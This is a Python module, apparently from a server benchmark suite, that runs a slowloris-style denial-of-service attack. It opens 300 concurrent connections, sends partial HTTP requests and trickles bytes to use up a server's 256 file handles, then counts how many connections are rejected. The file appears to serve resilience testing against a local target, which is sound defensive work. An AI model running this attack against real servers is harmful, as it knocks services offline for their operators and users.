"""300 concurrent connections with incomplete requests, at a server with 256 file handles"""

import asyncio
from functools import partial

from roost.bench.attack.target import AttackTarget
from roost.bench.client import NoAnswerError

HANDLES = 256
CONNECTIONS = 300
MAX_CONNECTIONS = 6000
"""The total number of connections."""
SECONDS = 40.0
BYTE_INTERVAL = 1.0
"""Seconds between two bytes of an endless request."""
PARTIAL_REQUESTS = [
    b"",
    b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: ",
    b"POST /api/tables HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100000\r\n\r\n{",
]


async def attack(target: AttackTarget, stop: asyncio.Event) -> None:
    host, _, port = target.address.rpartition(":")

    async def hold(partial_request: bytes) -> None:
        """Hold a connection until the server closes it."""
        try:
            reader, writer = await asyncio.open_connection(host, int(port))
        except OSError as error:
            target.counts["failed"] += 1
            raise NoAnswerError("no connection") from error
        writer.write(partial_request)
        try:
            while True:
                try:
                    async with asyncio.timeout(BYTE_INTERVAL):
                        answer = await reader.read(100)
                    break
                except TimeoutError:
                    writer.write(b"x" if partial_request else b"")
        except OSError:
            answer = b""
        finally:
            writer.close()
        is_rejected = answer.startswith((b"HTTP/1.1 429", b"HTTP/1.1 503"))
        target.counts["rejected" if is_rejected else "accepted"] += 1
        await asyncio.sleep(BYTE_INTERVAL)

    tasks = [partial(hold, PARTIAL_REQUESTS[i % len(PARTIAL_REQUESTS)]) for i in range(CONNECTIONS)]
    await target.repeat_all(stop, list(tasks), MAX_CONNECTIONS)
